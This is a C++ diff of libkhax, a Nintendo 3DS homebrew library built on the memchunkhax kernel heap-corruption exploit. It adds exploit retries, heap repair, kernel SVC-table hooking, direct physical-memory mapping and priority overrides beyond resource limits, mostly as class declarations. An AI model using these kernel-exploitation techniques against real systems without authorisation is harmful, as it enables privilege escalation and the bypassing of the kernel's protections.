@@ -1,4 +1,6 @@
 #include <3ds.h>
+#include <algorithm>
+#include <cstdarg>
 #include <cstddef>
 #include <cstdint>
 #include <cstdio>
@@ -8,7 +10,15 @@
 #include <new>
 
 #include "khax.h"
+#include "khaxaddress.h"
+#include "khaxbench.h"
+#include "khaxheap.h"
+#include "khaxperf.h"
+#include "khaxretry.h"
+#include "khaxpriority.h"
+#include "khaxdump.h"
 #include "khaxinternal.h"
+#include "khaxlog.h"
 
 //------------------------------------------------------------------------------------------------
 namespace KHAX
@@ -59,6 +69,12 @@ namespace KHAX
 		static constexpr const PointerWrapper<void **> m_currentKProcessPtr = 0xFFFF9004;
 		// Pseudo-handle of the current KProcess.
 		static constexpr const Handle m_currentKProcessHandle = 0xFFFF8001;
+		// Pseudo-handle of the current KThread.
+		static constexpr const Handle m_currentKThreadHandle = 0xFFFF8000;
+		// Read-only mapping of kernel code.  The patch addresses above are in a writable alias of it.
+		static constexpr const u32 m_kernelCodeAddress = 0xFFF00000;
+		// Size of the kernel code region covered by the writable alias.
+		static constexpr const u32 m_kernelCodeSize = 0x00080000;
 		// Returned pointers within a KProcess object.  This abstracts out which particular
 		// version of the KProcess object is in use.
 		struct KProcessPointers
@@ -66,6 +82,13 @@ namespace KHAX
 			KSVCACL *m_svcAccessControl;
 			u32 *m_kernelFlags;
 			u32 *m_processID;
+			void **m_translationTableBase;
+			u8 *m_contextID;
+			KCodeSet **m_codeSet;
+			KThread **m_mainThread;
+			u16 *m_handleTableSize;
+			KProcessHandleTable *m_handleTable;
+			KResourceLimit **m_resourceLimits;
 		};
 		// Creates a KProcessPointers for this kernel version and pointer to the object.
 		KProcessPointers(*m_makeKProcessPointers)(void *kprocess);
@@ -74,6 +97,10 @@ namespace KHAX
 		// address using the version-specific information in this table entry.
 		void *ConvertLinearUserVAToKernelVA(void *address) const;
 
+		// Convert an address in the kernel's read-only code mapping into the writable alias that
+		// m_threadPatchAddress and m_syscallPatchAddress point into.
+		void *ConvertKernelCodeToWritableVA(u32 address) const;
+
 		// Retrieve a VersionData for this kernel, or null if not recognized.
 		static const VersionData *GetForCurrentSystem();
 
@@ -86,6 +113,11 @@ namespace KHAX
 		static const VersionData s_versionTable[];
 	};
 
+	//------------------------------------------------------------------------------------------------
+	// The address translator for this system.  The table is built the first time through and
+	// copied out after that.
+	AddressTranslator GetAddressTranslator(const VersionData *versionData);
+
 	//------------------------------------------------------------------------------------------------
 	// ARM11 kernel hack class.
 	class MemChunkHax
@@ -98,7 +130,9 @@ namespace KHAX
 			m_corrupted(0),
 			m_overwriteMemory(nullptr),
 			m_overwriteAllocated(0),
-			m_extraLinear(nullptr)
+			m_extraLinear(nullptr),
+			m_spacerCount(0),
+			m_corruptWindowStart(0)
 		{
 			s_instance = this;
 		}
@@ -125,6 +159,11 @@ namespace KHAX
 		// Grant access to all services.
 		Result Step7_GrantServiceAccess();
 
+		// Undo steps 2 and 3 after Step4 found an unexpected layout, so that Step2 can run again.
+		Result PrepareLayoutRetry(unsigned attempt);
+		// Whether a result from Step4_VerifyExpectedLayout means the layout check itself failed.
+		static bool IsLayoutMismatch(Result result);
+
 	private:
 		// SVC-mode entry point thunk (true entry point).
 		static Result Step6a_SVCEntryPointThunk();
@@ -141,9 +180,35 @@ namespace KHAX
 		// Restore the original PID.  Runs as svcBackdoor.
 		static Result Step7b_UnpatchPID();
 
+		// Free block structure in the kernel, the one used in the memchunkhax exploit.
+		struct HeapFreeBlock;
+		// The layout of a memory page.
+		union Page;
+
+		// Free whichever of the overwrite pages are still allocated.
+		void FreeOverwriteMemory();
+
+	#ifdef KHAX_DEBUG_DUMP_DATA
+		// Record what user mode knows about this thread and process, before Step5 corrupts the heap.
+		void CollectFacts();
+	#endif
+		// Touch what the corrupted window from Step5's free to Step6's return uses, beforehand.
+		void PrewarmCorruptWindow();
+		// Read one word per cache line of a range.
+		static void PrewarmRange(const volatile void *address, std::size_t size);
+		// Touch the stack below the caller's frame.
+		static void PrewarmStack();
+
+		// Try to repair heap corruption from user mode after a failed step.
+		Result RecoverHeapCorruption();
+		// Overwrite one link of a freed page's heap metadata through GSPwn.
+		Result RewriteFreeBlockLink(Page *page, u32 offset, u32 value);
+		// Kernel address of an overwrite page's free block.
+		u32 KernelFreeBlock(unsigned page) const;
+
 		// Helper for dumping memory to SD card.
-		template <std::size_t S>
-		bool DumpMemberToSDCard(const unsigned char (MemChunkHax::*member)[S], const char *filename) const;
+		template <typename T>
+		bool DumpMemberToSDCard(const T MemChunkHax::*member, const char *filename) const;
 
 		// Result returned by hacked svcCreateThread upon success.
 		static constexpr const Result STEP6_SUCCESS_RESULT = 0x1337C0DE;
@@ -164,6 +229,14 @@ namespace KHAX
 			int m_unknown1;
 			int m_unknown2;
 		};
+		static_assert(offsetof(HeapFreeBlock, m_count) == HeapRepair::FREE_BLOCK_COUNT,
+			"khaxheap.h disagrees with HeapFreeBlock.");
+		static_assert(offsetof(HeapFreeBlock, m_next) == HeapRepair::FREE_BLOCK_NEXT,
+			"khaxheap.h disagrees with HeapFreeBlock.");
+		static_assert(offsetof(HeapFreeBlock, m_prev) == HeapRepair::FREE_BLOCK_PREV,
+			"khaxheap.h disagrees with HeapFreeBlock.");
+		static_assert(sizeof(HeapFreeBlock) == HeapRepair::FREE_BLOCK_SIZE,
+			"khaxheap.h disagrees with HeapFreeBlock.");
 
 		// The layout of a memory page.
 		union Page
@@ -178,7 +251,7 @@ namespace KHAX
 			union
 			{
 				unsigned char m_bytes[6 * 4096];
-				Page m_pages[6];
+				Page m_pages[HeapRepair::PAGE_COUNT];
 			};
 		};
 		OverwriteMemory *m_overwriteMemory;
@@ -195,6 +268,22 @@ namespace KHAX
 		static_assert(sizeof(ExtraLinearMemory) % 16 == 0, "ExtraLinearMemory isn't a multiple of 16 bytes");
 		ExtraLinearMemory *m_extraLinear;
 
+		// Linear memory held between Step4 retries to move the next attempt elsewhere in the heap.
+		struct Spacer
+		{
+			u32 m_address;
+			u32 m_size;
+		};
+		Spacer m_spacers[8];
+		unsigned m_spacerCount;
+
+		// Code prewarmed from each entry point, and stack below the current frame.
+		enum : std::size_t { PREWARM_CODE_SIZE = 0x100, PREWARM_STACK_SIZE = 0x400 };
+		// Data cache line size.
+		enum : std::size_t { CACHE_LINE_SIZE = 32 };
+		// svcGetSystemTick just before Step5 frees the second page.
+		u64 m_corruptWindowStart;
+
 		// Copy of the old ACL
 		KSVCACL m_oldACL;
 
@@ -206,22 +295,693 @@ namespace KHAX
 		unsigned char m_savedKProcess[sizeof(KProcess_8_0_0_New)];
 		unsigned char m_savedKThread[sizeof(KThread)];
 		unsigned char m_savedThreadSVC[0x100];
+		// Values known without the layouts, for tools/khaxlayout.
+		KhaxDumpFacts m_savedFacts;
 	#endif
 
 		// Pointer to our instance.
 		static MemChunkHax *volatile s_instance;
 	};
 
+	//------------------------------------------------------------------------------------------------
+	// Statistics gathered while running.  Parts of this are written from SVC mode, so it must live
+	// in ordinary process memory that both modes can reach.
+	struct Statistics
+	{
+		// Number of recent interrupts-disabled window lengths kept for percentile calculation.
+		enum : unsigned { WINDOW_HISTORY_SIZE = 256 };
+		// Default budget for a single interrupts-disabled window: 50 microseconds at the 268 MHz
+		// base clock.  Windows are timed in CPU cycles, so with a New 3DS at 804 MHz this is about
+		// 17 microseconds; the clock can change under us, and erring that way only splits sooner.
+		enum : u32 { DEFAULT_WINDOW_BUDGET = 268111856 / 20000 };
+		// Default number of Step4 layout retries.
+		enum : u32 { DEFAULT_LAYOUT_RETRY_LIMIT = 4 };
+
+		// Number of interrupts-disabled windows recorded.
+		volatile u32 m_windowCount;
+		// Longest interrupts-disabled window recorded, in CPU cycles.
+		volatile u32 m_windowMaxTicks;
+		// Budget for a single interrupts-disabled window, in CPU cycles.
+		volatile u32 m_windowBudgetTicks;
+		// Ring buffer of recent window lengths in CPU cycles, indexed by m_windowCount.
+		u32 m_windowHistory[WINDOW_HISTORY_SIZE];
+
+		// Time taken by each step of the last khaxInit.
+		u32 m_stepTicks[7];
+		// GSPwn copies done and their total time.
+		u32 m_gspwnCount;
+		u64 m_gspwnTicks;
+		// Data cache nukes done and their total time.
+		u32 m_nukeCount;
+		u64 m_nukeTicks;
+
+		// Outcome of the last khaxInit: the step that failed and the result it returned.
+		u32 m_failedStep;
+		Result m_lastResult;
+		// Maximum number of Step4 layout retries.
+		u32 m_layoutRetryLimit;
+		// Layout attempts made by the last khaxInit, and the time from the first Step2 until
+		// Step4 passed.
+		u32 m_layoutAttempts;
+		u32 m_layoutTicks;
+		// Which Step4 layout check failed, and the kernel addresses it compared.
+		LayoutRetry::Finding m_layoutFinding;
+		// Time from Step5 freeing the second page until svcCreateThread returned in Step6.
+		u32 m_corruptWindowTicks;
+		// Time spent running a deferred khaxInitEx, charged to the call that needed it.
+		u32 m_lazyInitTicks;
+	};
+	extern Statistics g_statistics;
+
+	//------------------------------------------------------------------------------------------------
+	// Append-only binary log of khaxInit attempts, in the format described in khaxlog.h.
+	class AttemptLog
+	{
+	public:
+		// Set the log file path, or null to disable logging.
+		static Result SetPath(const char *path);
+		// Append a record describing the attempt that just finished.
+		static void Append(Result result, u32 totalTicks);
+
+	private:
+		// Log file path; empty if disabled.
+		static char s_path[128];
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Scoped interrupts-disabled window for code running at SVC privilege.  Replaces bare
+	// "cpsid aif", recording how long each window lasts, and restoring the previous interrupt state
+	// on the way out.  Batched operations call Checkpoint between items so that a window that runs
+	// over budget is split, letting pending interrupts be serviced in between.
+	class KernelCriticalSection
+	{
+	public:
+		// Disable interrupts and start timing.
+		KernelCriticalSection();
+		// Record the window and restore the previous interrupt state.
+		~KernelCriticalSection();
+
+		// Don't copy this class either.
+		KernelCriticalSection(const KernelCriticalSection &) = delete;
+		KernelCriticalSection &operator =(const KernelCriticalSection &) = delete;
+
+		// If the current window has run past the budget, close it and open a new one.
+		void Checkpoint();
+
+	private:
+		// Open a window.
+		void Enter();
+		// Close a window and record its length.
+		void Leave();
+
+		// CPSR from before the window was opened.
+		u32 m_savedCPSR;
+		// Cycle counter value when the window was opened.
+		u32 m_startTick;
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Kernel-side system call profiler.  Every populated entry of the kernel's SVC dispatch table
+	// is redirected to a thunk that counts and times the calls made by our own threads before
+	// passing control on to the original handler.
+	class SVCProfiler
+	{
+	public:
+		// Install the hooks, or just return the profile if they're already installed.
+		static Result Install(const volatile KhaxSVCProfile **profile);
+		// Remove the hooks.
+		static Result Uninstall();
+		// Zero the counters.
+		static Result Reset();
+		// The kernel's own handler for a system call, bypassing our hook if one is installed, or 0
+		// if there is none.  Runs at SVC privilege.
+		static u32 KernelFindHandler(unsigned svc);
+
+	private:
+		// Number of entries in the SVC dispatch table.
+		enum : unsigned { SVC_COUNT = 0x80 };
+		// svcBackdoor is never hooked: the profiler is installed and removed through it, and its
+		// implementation switches stacks.
+		enum : unsigned { SVC_BACKDOOR = 0x7B };
+
+		// Invalidate the instruction cache lines of the thunks.  Runs as svcBackdoor, on each core.
+		static Result KernelInvalidateThunks(void *);
+		// Check and install the hooks.  Runs as svcBackdoor.  The context is an AddressTranslator.
+		static Result KernelInstall(void *context);
+		// Remove the hooks.  Runs as svcBackdoor.
+		static Result KernelUninstall(void *);
+		// Find the writable alias of the SVC dispatch table.  Runs at SVC privilege.
+		static u32 *FindSVCTable(const VersionData *versionData);
+		// atexit handler that removes the hooks if the application didn't.
+		static void UninstallAtExit();
+
+		// The buffer shared between the thunks and us.  It is in linear memory, so the thunks reach
+		// it through the kernel's FCRAM mapping no matter which process is current.  The thunk code
+		// (khaxSVCProfilerTemplate) accesses the fields by offset.
+		struct Buffer
+		{
+			KhaxSVCProfile m_profile;                       // +000
+			u32 m_originalHandlers[SVC_COUNT];              // +800
+			void *m_process;                                // +A00
+			u32 m_paddingA04[7];                            // +A04
+			u32 m_code[(0x1000 - 0xA20) / sizeof(u32)];     // +A20
+		};
+		static_assert(offsetof(Buffer, m_profile.calls) == 0x400, "SVCProfiler::Buffer isn't the expected layout.");
+		static_assert(offsetof(Buffer, m_profile.untimed) == 0x600, "SVCProfiler::Buffer isn't the expected layout.");
+		static_assert(offsetof(Buffer, m_originalHandlers) == 0x800, "SVCProfiler::Buffer isn't the expected layout.");
+		static_assert(offsetof(Buffer, m_process) == 0xA00, "SVCProfiler::Buffer isn't the expected layout.");
+		static_assert(sizeof(Buffer) == 0x1000, "SVCProfiler::Buffer isn't the expected size.");
+
+		// The buffer, through our linear heap mapping.  Kept after uninstalling, because threads
+		// blocked inside a hooked call will still return through the thunks.
+		static Buffer *s_buffer;
+		// The buffer, through the kernel's FCRAM mapping.
+		static Buffer *s_kernelBuffer;
+		// Writable alias of the SVC dispatch table, once found.
+		static u32 *s_table;
+		// Whether the hooks are installed.
+		static bool s_installed;
+		// Whether UninstallAtExit has been registered.
+		static bool s_atExitRegistered;
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Direct mappings of physical memory into our process, made by writing section entries into
+	// our level 1 translation table behind the kernel's back.
+	class PhysicalMapper
+	{
+	public:
+		// Map physical memory at a user address.  See khaxMapPhysicalMemory.
+		static Result Map(u32 userAddress, u32 physicalAddress, u32 size, u32 attributes);
+		// Remove a mapping made by Map.  *pendingCores, if given, receives a bit for each core
+		// whose TLB may still hold the mapping; the mapping is only forgotten once that is none.
+		static Result Unmap(u32 userAddress, u32 size, u32 *pendingCores);
+		// Remove every mapping, before the process goes away.
+		static Result UnmapAll();
+
+	private:
+		// Section (1 MB) granularity; a level 1 entry maps one section.
+		enum : u32 { SECTION_SIZE = 0x00100000 };
+		// Size of user space, which is what our level 1 table covers.
+		enum : u32 { USER_SPACE_END = 0x40000000 };
+		// Most mappings we keep track of.
+		enum : unsigned { MAX_MAPPINGS = 8 };
+
+		// One mapping.  m_descriptor is the level 1 entry for its first section.  m_unmapped is
+		// set once the entries are cleared, while some core's TLB may still hold them.
+		struct Mapping
+		{
+			u32 m_userAddress;
+			u32 m_size;
+			u32 m_descriptor;
+			bool m_unmapped;
+		};
+
+		// What the kernel-mode functions are given.
+		struct Request
+		{
+			Mapping m_mapping;
+			AddressTranslator m_translator;
+		};
+
+		// Write or clear the level 1 entries for a mapping.  Runs as svcBackdoor.
+		static Result KernelMap(void *context);
+		static Result KernelUnmap(void *context);
+		// Invalidate this core's TLB entries for a mapping.  Runs as svcBackdoor, on each core.
+		static Result KernelInvalidateTLB(void *context);
+		// Find our level 1 table, checking that it is the one this core is translating with.
+		// Runs at SVC privilege.
+		static u32 *KernelGetTable(const AddressTranslator &translator);
+		// Physical ranges that may be mapped.
+		static bool IsMappable(u32 physicalAddress, u32 size);
+		// User ranges that the kernel never allocates from.
+		static bool IsUserRangeFree(u32 userAddress, u32 size);
+		// Level 1 section descriptor for a physical address and attributes.
+		static u32 MakeSectionDescriptor(u32 physicalAddress, u32 attributes);
+		// atexit handler that removes the mappings if the application didn't.
+		static void UnmapAllAtExit();
+
+		static Mapping s_mappings[MAX_MAPPINGS];
+		// Whether UnmapAllAtExit has been registered.
+		static bool s_atExitRegistered;
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Threads of ours that the sampler and the wait-graph analyzer look at.  The kernel keeps no
+	// list of a process's threads in the structures we know, so threads register themselves.
+	// The registry holds a handle to each thread, which keeps its KThread alive, so the kernel
+	// pointers can't dangle.  Threads that exit without unregistering are dropped by Prune.
+	class ThreadRegistry
+	{
+	public:
+		// Most threads that can be registered.
+		enum : unsigned { MAX_THREADS = 32 };
+
+		// Include or exclude the calling thread.
+		static Result Register();
+		static Result Unregister();
+		// Include the main thread.
+		static Result AddMainThread();
+		// Drop threads that have exited.  Done before each snapshot.
+		static void Prune();
+		// Drop every thread, before the process goes away.
+		static void Clear();
+
+		// Registered threads, as kernel pointers; unused slots are null.  Only changed and read at
+		// SVC privilege, under KernelCall's lock.
+		static KThread *s_threads[MAX_THREADS];
+
+	private:
+		// A change to the registry.
+		struct Change
+		{
+			enum Operation : u32
+			{
+				ADD_CURRENT,
+				ADD_MAIN,
+				REMOVE_CURRENT,
+				REMOVE_HANDLE,
+			};
+
+			Operation m_operation;
+			// For ADD_*, the handle to keep, cleared if it was kept.  For REMOVE_CURRENT, receives
+			// the handle to close.  For REMOVE_HANDLE, the handle to remove, cleared if not found.
+			Handle m_handle;
+			// For ADD_MAIN, the thread ID of the main thread, which m_handle was opened with.
+			u32 m_threadID;
+		};
+
+		// Make a change.  Runs as svcBackdoor.
+		static Result KernelChange(void *context);
+		// Read the main thread's ID.  Runs as svcBackdoor.
+		static Result KernelGetMainThreadID(void *context);
+
+		// Handles to the threads in s_threads, in the same slots.
+		static Handle s_handles[MAX_THREADS];
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Sampling profiler.  A thread of ours wakes up periodically and, in one kernel trip, reads
+	// the scheduling state of each registered thread out of its KThread into a single-producer,
+	// single-consumer ring, which the application drains.
+	class Sampler
+	{
+	public:
+		// Start and stop the sampling thread.
+		static Result Start(u32 intervalMicroseconds, s32 priority);
+		static Result Stop();
+		// Drain samples from the ring.
+		static u32 Read(KhaxSample *samples, u32 maxCount, u32 *dropped);
+		// Drain the ring into a folded stack file.
+		static Result WriteFolded(const char *path);
+
+	private:
+		// Ring capacity; a power of two.
+		enum : u32 { RING_SIZE = 1024 };
+		// How far down from the top of a thread's kernel stack to look for its user-mode state.
+		enum : unsigned { STACK_SCAN_WORDS = 16 };
+		// Stack size of the sampling thread.
+		enum : std::size_t { THREAD_STACK_SIZE = 0x1000 };
+
+		// Where our code is loaded, from our KCodeSet, for validating and symbolizing addresses.
+		struct CodeSegment
+		{
+			const char *m_name;
+			u32 m_address;
+			u32 m_size;
+		};
+
+		// Sampling thread.
+		static void ThreadMain(void *);
+		// Snapshot the registered threads.  Runs as svcBackdoor; the context is the tick.
+		static Result KernelSnapshot(void *context);
+		// Read our code segments and process name out of the KCodeSet.  Runs as svcBackdoor.
+		static Result KernelReadCodeSet(void *);
+		// Find the user-mode resume address saved at the top of a thread's kernel stack.
+		static u32 FindUserPC(const KThread *thread);
+		// Which code segment an address is in, or null.
+		static const CodeSegment *FindSegment(u32 address);
+
+		// Ring buffer.  The kernel trip writes samples and advances m_head; Read advances m_tail.
+		static KhaxSample s_ring[RING_SIZE];
+		static volatile u32 s_head;
+		static volatile u32 s_tail;
+		static volatile u32 s_dropped;
+		// Our code segments, and our process name.
+		static CodeSegment s_segments[3];
+		static char s_processName[9];
+		// Sampling thread and its parameters.
+		static Thread s_thread;
+		static volatile bool s_stopping;
+		static u32 s_intervalMicroseconds;
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Wait-for graph of the registered threads.  A snapshot follows, in one kernel trip, what each
+	// registered thread waits on, who else waits there, and for mutexes, the owner and whatever
+	// it waits on in turn, which is how deadlock cycles are found.  Waits seen across snapshots
+	// are timed into per-object histograms.
+	class WaitGraph
+	{
+	public:
+		// Take a snapshot.
+		static Result Snapshot(u32 *cycles);
+		// Write the latest snapshot as a Graphviz graph.
+		static Result Write(const char *path);
+
+	private:
+		// Most objects tracked.  When full, the one least recently seen is evicted.
+		enum : unsigned { MAX_OBJECTS = 64 };
+		// Waiters recorded per object.
+		enum : unsigned { MAX_WAITERS = 8 };
+		// Longest chain of mutex owners followed, and so the longest cycle found.
+		enum : unsigned { MAX_CHAIN = 8 };
+		// Cycles recorded per snapshot.
+		enum : unsigned { MAX_CYCLES = 4 };
+		// Blocked-time histogram buckets, by power of two of system ticks.
+		enum : unsigned { HISTOGRAM_BUCKETS = 32 };
+		// Calibration: how often to check for the helper thread blocking, and its stack size.
+		enum : unsigned { CALIBRATION_ATTEMPTS = 100 };
+		enum : std::size_t { CALIBRATION_STACK_SIZE = 0x1000 };
+
+		// An object that registered threads have waited on.
+		struct Object
+		{
+			// Kernel address of the object.
+			const void *m_object;
+			// Whether it is a mutex, and if so, the thread ID of its owner, or 0 if unowned.  Owners
+			// that aren't registered threads are only flagged.
+			bool m_isMutex;
+			bool m_ownerUnregistered;
+			u32 m_ownerThreadID;
+			// Registered threads waiting on it in the latest snapshot that saw the object.
+			// m_waiterCount includes any beyond those recorded.
+			u32 m_waiterCount;
+			u32 m_waiters[MAX_WAITERS];
+			// Snapshot that last refreshed the above.
+			u32 m_snapshot;
+			// Histogram of completed waits on this object.
+			u32 m_histogram[HISTOGRAM_BUCKETS];
+		};
+
+		// What one registered thread was waiting on, and since when.
+		struct ThreadWait
+		{
+			const KThread *m_thread;
+			u32 m_threadID;
+			const void *m_object;
+			u64 m_since;
+			u64 m_lastSeen;
+		};
+
+		// A cycle of threads each waiting on a mutex that the next one owns.
+		struct Cycle
+		{
+			u32 m_length;
+			u32 m_threadIDs[MAX_CHAIN];
+		};
+
+		// Learn the KMutex vtable and check the owner field, so mutexes can be told apart.
+		static Result Calibrate();
+		// Helper thread for Calibrate, which blocks on a mutex that we hold.
+		static void CalibrationThread(void *context);
+		// Record the calling thread as the helper.  Runs as svcBackdoor.
+		static Result KernelRegisterHelper(void *);
+		// Take the vtable from the mutex the helper is blocked on.  Runs as svcBackdoor.
+		static Result KernelCalibrate(void *);
+		// Take a snapshot.  Runs as svcBackdoor; the context is the tick.
+		static Result KernelSnapshot(void *context);
+		// Find an object's entry, adding it if asked, evicting the least recently seen if full.
+		static Object *FindObject(const void *object, bool add);
+		// Whether a kernel thread is one of the registered threads.
+		static bool IsRegistered(const KThread *thread);
+		// Whether a kernel object is a mutex.
+		static bool IsMutex(const void *object);
+		// Follow mutex owners from a thread, recording a cycle if it leads back to the thread.
+		static void FollowOwners(const KThread *thread);
+		// Record a wait that has ended into its object's histogram.
+		static void EndWait(const ThreadWait &wait);
+
+		static Object s_objects[MAX_OBJECTS];
+		static u32 s_objectCount;
+		// Objects evicted to make room, whose histograms were lost.
+		static u32 s_evictedCount;
+		static ThreadWait s_waits[ThreadRegistry::MAX_THREADS];
+		static Cycle s_cycles[MAX_CYCLES];
+		static u32 s_cycleCount;
+		// Number and time of the latest snapshot.
+		static u32 s_snapshot;
+		static u64 s_snapshotTick;
+		// KMutex's vtable; null until calibrated, or if calibration failed.
+		static const void *s_mutexVTable;
+		// Set once calibration has succeeded; a failed calibration is retried on the next snapshot.
+		static bool s_calibrated;
+		// Helper thread during calibration.
+		static KThread *volatile s_calibrationThread;
+	};
+
+#ifdef KHAX_DEBUG_TRACE
+	//------------------------------------------------------------------------------------------------
+	// Trace buffer for code running at SVC privilege, written through KHAX_trace.  Writers claim a
+	// slot with an atomic increment and fill it in with a few stores, so any core can trace with
+	// interrupts disabled.  Once it wraps, the oldest records are overwritten.  Each record's lap
+	// number is stored last, so a drain racing a writer stops at the unfinished record and picks it
+	// up next time.  The cycle counter is per core, so times only compare within one core.
+	class TraceBuffer
+	{
+	public:
+		// Event IDs, with what their two arguments are.  Keep s_eventNames in step.
+		enum Event : u16
+		{
+			STEP6B_ENTER,                                   // m_corrupted, KThread
+			STEP6C_UNPATCHED,                               // patch address, restored code
+			STEP6D_FIXED,                                   // left, right->m_next
+			STEP6E_GRANTED,                                 // KThread, first word of old ACL
+			STEP6B_LEAVE,                                   // result, m_corrupted
+			KERNEL_CALL_ENTER,                              // function, context
+			KERNEL_CALL_LEAVE,                              // function, result
+			WINDOW_SPLIT,                                   // window length, budget
+			EVENT_COUNT
+		};
+
+		// Add a record.  SVC privilege only, because of the cycle counter.
+		static void Add(Event event, u32 arg0, u32 arg1);
+		// Decode the records written since the last drain into a file.
+		static Result Drain(FILE *file);
+
+	private:
+		// Number of records kept; a power of two.
+		enum : u32 { SIZE = 256 };
+
+		struct Entry
+		{
+			u32 m_cycles;
+			u16 m_event;
+			u8 m_cpu;
+			// Low byte of 1 + claim index / SIZE, stored once the rest is written.
+			volatile u8 m_lap;
+			u32 m_arg0;
+			u32 m_arg1;
+		};
+		static_assert(sizeof(Entry) == 0x010, "TraceBuffer::Entry isn't the expected size.");
+
+		// Cores that records can come from, by the low bits of MPIDR.
+		enum : unsigned { CPU_COUNT = 4 };
+
+		// The lap number that a record claimed at an index carries.
+		static u8 LapOf(u32 index) { return static_cast<u8>(index / SIZE + 1); }
+
+		static Entry s_entries[SIZE];
+		// Records ever claimed, and records drained.
+		static u32 s_head;
+		static u32 s_tail;
+		static const char *const s_eventNames[EVENT_COUNT];
+	};
+#endif
+
+	//------------------------------------------------------------------------------------------------
+	// Microbenchmarks of libkhax's own primitives, most of which the C API doesn't expose.  Each
+	// one is warmed up, timed per iteration with svcGetSystemTick, and summarized as a CSV line.
+	// The same harness times callers' functions for khaxBenchmarkFunction.
+	class Benchmark
+	{
+	public:
+		// Run them all, writing the results to a file.
+		static Result Run(const char *path, u32 iterations);
+		// Time a caller's function.
+		static Result TimeFunction(Result (*function)(void *context), void *context, u32 iterations,
+			KhaxBenchmarkResult *summary);
+
+	private:
+		// Untimed iterations before timing starts.
+		enum : u32 { WARMUP_ITERATIONS = 16 };
+		// Size of the buffers that the cache and copy benchmarks work on.
+		enum : std::size_t { BUFFER_SIZE = 0x1000 };
+
+		// Time one primitive, which returns a Result, into a summary.  samples has room for
+		// iterations entries.
+		template <typename Function>
+		static void Measure(u32 *samples, u32 iterations, Function function, KhaxBenchmarkResult *summary);
+		// Time one primitive and write its line.
+		template <typename Function>
+		static Result Time(FILE *file, const char *name, u32 *samples, u32 iterations, Function function);
+		// Empty svcBackdoor payload.
+		static Result KernelNop(void *);
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Resolves handles of this process to the kernel objects behind them, with a cache in front of
+	// the kernel's handle table.  Entries are keyed by the whole handle value, which includes the
+	// generation of the table slot, so a slot that was closed and reused misses.
+	class HandleResolver
+	{
+	public:
+		// Resolve a list of handles; misses go to the kernel in batches.
+		static Result Resolve(const Handle *handles, KhaxHandleInfo *info, u32 count);
+		// Close a handle and drop it from the cache.
+		static Result Close(Handle handle);
+		// Set up the lock.  Called by SetUpLocks.
+		static void InitLock();
+
+	private:
+		// Cache entries, direct-mapped by table slot.
+		enum : unsigned { CACHE_SIZE = 64 };
+		// Misses resolved per kernel trip.
+		enum : unsigned { BATCH_SIZE = 32 };
+		// Handle fields.
+		enum : u32 { SLOT_MASK = 0x7FFF, GENERATION_SHIFT = 15 };
+		// Kernel trips made while the handle table's lock is held before giving up.
+		enum : unsigned { LOOKUP_ATTEMPTS = 16 };
+		// Pseudo-handles for the current thread and process.
+		enum : Handle { CURRENT_THREAD = 0xFFFF8000, CURRENT_PROCESS = 0xFFFF8001 };
+
+		struct Entry
+		{
+			// 0 if unused; no real handle is 0.
+			Handle m_handle;
+			u32 m_object;
+			u32 m_vtable;
+		};
+
+		// Handles to look up in one kernel trip, and what was found.
+		struct Batch
+		{
+			u32 m_count;
+			Handle m_handles[BATCH_SIZE];
+			u32 m_indices[BATCH_SIZE];
+			u32 m_objects[BATCH_SIZE];
+			u32 m_vtables[BATCH_SIZE];
+		};
+
+		// Learn each object type's vtable from objects created for the purpose.  Called under s_lock.
+		static Result Calibrate();
+		// Resolve a batch and store the results in info and the cache.  Called under s_lock.
+		static Result Flush(Batch &batch, KhaxHandleInfo *info);
+		// Look up a batch, retrying while the kernel holds the handle table's lock.
+		static Result LookUp(Batch &batch);
+		// Type of an object given its vtable.
+		static KhaxObjectType TypeOf(u32 vtable);
+		// Look up a batch in the handle table.  Runs as svcBackdoor.
+		static Result KernelResolve(void *context);
+
+		static LightLock s_lock;
+		static Entry s_cache[CACHE_SIZE];
+		// Set once calibration has succeeded; a failed calibration is retried on the next call.
+		static bool s_calibrated;
+		static u32 s_vtables[KHAX_OBJECT_ADDRESS_ARBITER + 1];
+	};
+
+	//------------------------------------------------------------------------------------------------
+	// Sets thread priorities past the process's priority limit, in one kernel trip.  The kernel's
+	// own svcSetThreadPriority does the work, so that it writes the KThread's base and dynamic
+	// priorities and moves the thread between scheduler queues itself; we don't know KScheduler's
+	// layout well enough to do the move by hand.  For the length of the calls, our process is
+	// pointed at a private copy of its KResourceLimit with the priority limit lifted, so the
+	// KResourceLimit shared by the rest of our category is never written.
+	class PriorityBooster
+	{
+	public:
+		// Change priorities, saving the old ones first if saved isn't null.
+		static Result Boost(const Handle *threads, const s32 *priorities, u32 count, KhaxPriorityBoost *saved);
+		// Put back saved priorities.
+		static Result Restore(const KhaxPriorityBoost *saved);
+
+	private:
+		// svcSetThreadPriority's number.
+		enum : unsigned { SVC_SET_THREAD_PRIORITY = 0x0C };
+
+		// What KernelBoost does.
+		struct Request
+		{
+			u32 m_count;
+			const Handle *m_threads;
+			const KhaxHandleInfo *m_info;
+			const s32 *m_priorities;
+			// Highest of m_priorities.
+			s32 m_highest;
+		};
+
+		// Set the priorities through the kernel's handler with the limit lifted in a private copy,
+		// then check the threads' KThread priority fields.  Runs as svcBackdoor.
+		static Result KernelBoost(void *context);
+
+		// The private copy of our KResourceLimit.  Only used inside KernelBoost, which KernelCall
+		// serializes.  Reached through our own mapping, because we are the current process while
+		// it is in use.
+		static u32 s_privateLimit[PriorityMath::RESOURCE_LIMIT_SIZE / sizeof(u32)];
+	};
+	static_assert(PriorityMath::KTHREAD_DYNAMIC_PRIORITY == offsetof(KThread, m_threadPriority),
+		"khaxpriority.h disagrees with KThread.");
+	static_assert(PriorityMath::KTHREAD_BASE_PRIORITY == offsetof(KThread, m_threadPriority2),
+		"khaxpriority.h disagrees with KThread.");
+	static_assert(PriorityMath::RESOURCE_LIMIT_VALUES == offsetof(KResourceLimit, m_limitValues),
+		"khaxpriority.h disagrees with KResourceLimit.");
+	static_assert(PriorityMath::RESOURCE_LIMIT_CURRENT == offsetof(KResourceLimit, m_currentValues),
+		"khaxpriority.h disagrees with KResourceLimit.");
